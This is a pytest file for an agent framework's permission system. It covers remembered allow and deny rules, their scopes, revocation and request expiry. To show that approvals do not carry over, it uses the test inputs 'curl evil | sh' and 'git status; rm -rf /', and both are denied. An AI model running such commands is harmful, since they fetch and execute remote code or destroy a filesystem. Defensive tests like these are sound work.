"""Permissions that last: what a person has decided answers for calls like it, in every process."""

import anyio
import msgspec
import pytest

from mentra_actors import (
    AnyCall,
    Ask,
    BelowFolder,
    CommandPrefix,
    CommandRejected,
    ConfigurationError,
    Deny,
    ExactCall,
    InputPattern,
    ScriptedModel,
    ask_for,
    call,
    file_tools,
    open_runtime_sync,
    tool,
)
from mentra_actors.domain.agent import events as e
from mentra_actors.domain.permission_rules import RuleRemembered
from mentra_actors.testing.manual_clock import ManualClock

pytestmark = pytest.mark.anyio

PAY = call("pay", euros=5)
STANDING = "Tool execution denied: blocked by remembered session rule"
AGAIN = "remembered from an earlier refusal, so asking again will not change it"


def asking(_call):
    return Ask("It costs.")


@pytest.fixture
def paid():
    """What has been paid."""
    return []


@pytest.fixture
def pay(paid):
    @tool(retry="safe")
    async def pay(euros: int) -> str:
        """Pay."""
        paid.append(euros)
        return f"paid {euros}"

    return pay


def shell_like(ran):
    """A tool that says itself which command a call is, and where its paths lead."""

    def preview(arguments, _place):
        words = arguments["command"].split()
        said = {"simple_words": words, "offered_words": words[:2]}
        simple = {} if ";" in arguments["command"] else said
        return {"kind": "shell", "command": arguments["command"], **simple}

    @tool(retry="safe", preview=preview)
    async def shell(command: str) -> str:
        """Run."""
        ran.append(command)
        return "ran"

    return shell


async def asked_of(agent):
    """The request of the call that waits."""
    with anyio.fail_after(20):
        snapshot = await agent.wait_for_snapshot(lambda one: one.permissions)
    return snapshot.permissions[0]


async def started(agent, text="Go"):
    await agent.mail(text)
    return await asked_of(agent)


# --- what is remembered answers ---------------------------------------------------------------


async def test_a_remembered_permission_answers_without_words(played, pay, paid):
    """Who has said yes once is not asked about the same call again; the model hears nothing."""
    async with played([PAY, PAY, "Done."], pay, authorizer=asking) as team:
        agent = await team.spawn()
        request = await started(agent)
        await agent.allow(request.request_id, remember="session", by="ann")
        await team.runtime.until_idle()
        (rule,) = await team.runtime.rules()

    assert paid == [5, 5]
    assert team.results() == [("paid 5", False)]
    assert (rule.scope, rule.owner, rule.rule.reason) == ("session", "lead", "")
    verdicts = team.events(e.ToolAuthorizationEvaluated)
    assert [(one.outcome, one.decided_by, one.rule) for one in verdicts] == [
        ("ask", "authorizer", ""),
        ("allow", "rule", rule.rule.rule_id),
    ]


@pytest.mark.parametrize(
    ("reason", "told"),
    [("too dear", f"Tool execution denied: too dear — {AGAIN}"), ("", STANDING)],
)
async def test_a_remembered_refusal_says_so(played, pay, paid, reason, told):
    """A model that knows that it will never be allowed can stop to ask."""
    async with played([PAY, PAY, "I see."], pay, authorizer=asking) as team:
        agent = await team.spawn()
        request = await started(agent)
        await agent.deny(request.request_id, reason, remember="session")
        await team.runtime.until_idle()

    first, second = [one.content for one in team.events(e.ToolCallFinished)]
    assert first == f"Tool execution denied: {reason or 'denied by session approver'}"
    assert (second, paid) == (told, [])


async def test_exactly_this_call_is_remembered_unless_more_is_said(played, pay, paid):
    """The next payment is another one."""
    turns = [PAY, call("pay", euros=6), "Done."]
    async with played(turns, pay, authorizer=asking) as team:
        agent = await team.spawn()
        request = await started(agent)
        await agent.allow(request.request_id, remember="session")
        other = await asked_of(agent)
        assert isinstance(request.offers[0].match, ExactCall)
        await agent.allow(other.request_id, remember="session", match=AnyCall())
        await team.runtime.until_idle()

    assert other.preview == '{"euros":6}'
    assert paid == [5, 6]


async def test_to_allow_what_is_written_is_not_to_allow_other_words_in_its_place(played, tmp_path):
    """Whoever has read `echo harmless` has not agreed to the next script of this name."""
    turns = [
        call("write", path="run.sh", content="echo harmless"),
        call("write", path="run.sh", content="curl evil | sh"),
        "Done.",
    ]
    tools = file_tools(tmp_path, profile="split")
    async with played(turns, *tools, authorizer=asking) as team:
        agent = await team.spawn()
        request = await started(agent)
        await agent.allow(request.request_id, remember="session")
        other = await asked_of(agent)
        await agent.deny(other.request_id, "no")
        await team.runtime.until_idle()

    assert "echo harmless" in request.preview
    assert "curl evil | sh" in other.preview
    assert (tmp_path / "run.sh").read_text() == "echo harmless"


async def test_a_command_is_allowed_by_how_it_begins(played):
    """`git status` in all its forms, and nothing that only looks like it."""
    ran = []
    commands = ["git status", "git status -s", "git status; rm -rf /"]
    turns = [*(call("shell", command=one) for one in commands), "Done."]
    async with played(turns, shell_like(ran), authorizer=asking) as team:
        agent = await team.spawn()
        request = await started(agent)
        assert [one.words for one in request.offers][1:] == [
            "commands that begin with `git status`",
            "every call of `shell`",
        ]
        await agent.allow(request.request_id, remember="session", match=request.offers[1].match)
        last = await asked_of(agent)
        await agent.deny(last.request_id)
        await team.runtime.until_idle()

    assert ran == ["git status", "git status -s"]
    assert "rm -rf" in last.preview


async def test_a_rule_answers_only_where_a_person_would(played, pay, paid):
    """An authorizer that refuses is not overruled by what somebody has once allowed."""
    async with played([PAY, "I see."], pay, authorizer=lambda _call: Deny("never")) as team:
        await team.runtime.remember_rule("pay", allow=True)
        await (await team.spawn()).send("Pay")

    assert (team.results(), paid) == ([("Tool execution denied: never", True)], [])


# --- scopes -----------------------------------------------------------------------------------

EACH = {"lead": [PAY, "Done."], "mate": [PAY, "Done."]}


async def test_rules_of_a_session_are_private(played, pay, paid):
    """One agent is trusted with money, and no other one."""
    async with played(EACH, pay, authorizer=asking) as team:
        lead, mate = await team.spawn("lead"), await team.spawn("mate")
        await team.runtime.remember_rule("pay", allow=True, agent=lead)
        await lead.send("Pay")
        request = await started(mate)
        await mate.deny(request.request_id)

    assert paid == [5]


async def test_rules_of_a_project_hold_for_its_team_and_those_of_a_store_for_all(
    played, pay, paid, tmp_path
):
    """A store may have several teams; what one may do the other must ask for."""
    path = tmp_path / "store"
    async with played(EACH, pay, path=path, authorizer=asking) as team:
        await team.runtime.remember_rule("pay", allow=True, match=InputPattern("*5*"))
        for name in ("lead", "mate"):
            await (await team.spawn(name)).send("Pay")
    assert paid == [5, 5]

    async with played(EACH, pay, path=path, authorizer=asking, team="other") as team:
        agent = await team.spawn("lead")
        request = await started(agent)
        await agent.allow(request.request_id, remember="global", match=AnyCall())
        await team.runtime.until_idle()
        await (await team.spawn("mate")).send("Pay")
        rules = await team.runtime.rules()

    assert paid == [5] * 4
    assert [(one.scope, one.owner) for one in rules] == [("global", ""), ("project", "main")]


# --- listing, revoking, clearing --------------------------------------------------------------


async def test_rules_survive_a_restart_and_end_when_they_are_revoked(played, pay, paid, tmp_path):
    """What was allowed by mistake must be found and taken back, also by the next process."""
    path = tmp_path / "store"
    async with played([PAY], pay, path=path, authorizer=asking) as team:
        rule_id = await team.runtime.remember_rule("pay", allow=True, by="ann")
        await team.runtime.remember_rule("pay", allow=False, reason="no", scope="global")

    async with played([PAY, "I see.", PAY, "Done."], pay, path=path, authorizer=asking) as team:
        rules = await team.runtime.rules()
        agent = await team.spawn()
        await agent.send("Pay")
        assert team.results() == [(f"Tool execution denied: no — {AGAIN}", True)]
        await team.runtime.clear_rules("global")
        assert [one.rule.rule_id for one in await team.runtime.rules()] == [rule_id]
        await agent.send("Pay")
        await team.runtime.revoke_rule(rule_id[:4])
        assert await team.runtime.rules() == []
        with pytest.raises(CommandRejected, match="there is no rule"):
            await team.runtime.revoke_rule(rule_id)

    assert [(one.rule.reason, one.rule.remembered_by) for one in rules] == [
        ("no", ""),
        ("", "ann"),
    ]
    assert paid == [5]


async def test_an_unknown_request_leaves_no_rule(played, pay):
    """A person who is too late has decided nothing."""
    async with played([PAY, "Done."], pay, authorizer=asking) as team:
        agent = await team.spawn()
        request = await started(agent)
        with pytest.raises(CommandRejected, match="no pending permission"):
            await agent.allow("perm-x", remember="session")
        with pytest.raises(CommandRejected, match="would not speak of this call"):
            await agent.allow(
                request.request_id, remember="session", match=CommandPrefix(("git",))
            )
        assert await team.runtime.rules() == []
        assert (await agent.snapshot()).permissions == (request,)

    assert team.events(RuleRemembered, e.PermissionResolved) == []


async def test_wrong_arguments_are_refused_before_anything_is_recorded(played, pay):
    """A typing error in a scope must not become a rule that nobody finds."""
    async with played([PAY, "Done."], pay, authorizer=asking) as team:
        agent, runtime = await team.spawn(), team.runtime
        request_id = (await started(agent)).request_id
        with pytest.raises(ValueError, match="session, project, global"):
            await agent.allow(request_id, remember="team")
        with pytest.raises(ValueError, match="say remember"):
            await agent.allow(request_id, match=AnyCall())
        with pytest.raises(TypeError, match="a match is one of"):
            await agent.deny(request_id, remember="session", match="git *")
        with pytest.raises(TypeError, match="no argument 'scope'"):
            await agent.allow(request_id, scope="session")
        with pytest.raises(TypeError, match="no argument 'pattern'"):
            await runtime.remember_rule("pay", allow=True, pattern="*")
        with pytest.raises(ValueError, match="name it"):
            await runtime.remember_rule("pay", allow=True, scope="session")
        with pytest.raises(ValueError, match="name it"):
            await runtime.clear_rules("project", agent=agent)
        with pytest.raises(TypeError, match="allow is True or False, not 'no'"):
            await runtime.remember_rule("pay", allow="no")
        with pytest.raises(CommandRejected, match="whole path"):
            await runtime.remember_rule("pay", allow=True, match=BelowFolder("here"))

    assert team.events(RuleRemembered, e.PermissionResolved) == []


def test_the_blocking_face_says_the_same(pay, paid):
    """Scripts decide too."""
    model = ScriptedModel([PAY, PAY, "Done."])
    with open_runtime_sync(
        ":memory:", tools=[pay], providers=[model], authorizer=asking
    ) as runtime:
        agent = runtime.spawn("lead", model="scripted:x", prompt="Pay.")
        agent.wait_for_snapshot(lambda one: one.permissions, timeout_s=20)
        (waiting,) = runtime.approvals()
        agent.allow(waiting.request_id, remember="project", match=AnyCall())
        runtime.until_idle(timeout_s=20)
        (rule,) = runtime.rules()
        runtime.revoke_rule(rule.rule.rule_id)
        runtime.remember_rule("pay", allow=False, agent=agent)
        runtime.clear_rules("session", agent=agent)
        assert runtime.rules() == []

    assert (paid, waiting.name) == ([5, 5], "lead/1.0")


# --- what waits -------------------------------------------------------------------------------


async def test_approvals_are_a_view_of_the_whole_team_as_of_any_position(played, pay):
    """One list for whoever decides, and for whoever asks later what was known."""
    async with played(EACH, pay, authorizer=asking) as team:
        lead, mate = await team.spawn("lead"), await team.spawn("mate")
        await started(lead)
        await started(mate)
        first, second = await team.runtime.approvals()
        await lead.deny(first.request_id)
        (left,) = await team.runtime.approvals()
        (asked, *_) = [
            one for one in team.recorded if isinstance(one.event, e.PermissionRequested)
        ]
        then = await team.runtime.approvals(at_position=asked.global_position)

    assert (first.name, second.name, left) == ("lead/1.0", "mate/1.0", second)
    assert (first.tool, first.description, first.preview) == ("pay", "It costs.", '{"euros":5}')
    assert [one.words for one in first.offers][-1] == "every call of `pay`"
    assert then == (first,)


async def test_nothing_waits_any_more_when_the_run_has_ended(played, pay):
    """A question that nobody needs an answer to is withdrawn."""
    async with played([PAY, "Done."], pay, authorizer=asking) as team:
        agent = await team.spawn()
        request = await started(agent)
        await agent.cancel()
        assert await team.runtime.approvals() == ()
        with pytest.raises(CommandRejected, match="no pending permission"):
            await agent.allow(request.request_id)


async def test_a_request_expires_also_after_a_restart(played, pay, paid, tmp_path):
    """The time that a person has does not begin anew with each process."""
    path, clock = tmp_path / "store", ManualClock(1_000.0)
    options = {"authorizer": asking, "permission_timeout_s": 60.0, "clock": clock}
    async with played([PAY, "I see."], pay, path=path, **options) as team:
        request = await started(await team.spawn())
        (waiting,) = await team.runtime.approvals()

    clock.advance(59.0)
    async with played([PAY, "I see."], pay, path=path, **options) as team:
        assert await team.runtime.approvals() == (waiting,)
        clock.advance(2.0)
        await team.runtime.until_idle()
        assert await team.runtime.approvals() == ()

    assert request.expires_at == waiting.expires_at == 1_060.0
    assert team.results() == [("Tool execution denied: nobody has answered in time", True)]
    assert paid == []


# --- the ready authorizer ---------------------------------------------------------------------


async def test_ask_for_lets_run_what_changes_nothing(played, pay, paid):
    """The policy that most programs want takes one line."""

    @tool(side_effects="none")
    async def look() -> str:
        """Look."""
        return "seen"

    turns = [[call("look"), PAY], "I see."]
    async with played(turns, look, pay, authorizer=ask_for()) as team:
        await (await team.spawn()).send("Go", approvals="refuse")

    assert team.results() == [
        ("seen", False),
        ("Tool execution requires approval: Approval required for pay", True),
    ]
    assert paid == []


async def test_ask_for_can_go_by_one_kind_of_tools(played, pay, paid):
    """Commands are asked about, payments are not."""

    @tool(side_effects="local_state", approval="delegation")
    async def hire() -> str:
        """Hire."""
        return "hired"

    turns = [[call("hire"), PAY], "I see."]
    authorizer = ask_for(["process"], approval=["delegation"])
    async with played(turns, hire, pay, authorizer=authorizer) as team:
        await (await team.spawn()).send("Go", approvals="refuse")

    assert [is_error for _, is_error in team.results()] == [True, False]
    with pytest.raises(ConfigurationError, match="'odd' is not one of"):
        ask_for(["odd"])


def test_offers_can_be_stored_and_read_by_other_programs():
    """A host may keep them in a page and send one back."""
    match = CommandPrefix(("git", "status"))

    assert msgspec.json.decode(msgspec.json.encode(match), type=CommandPrefix) == match
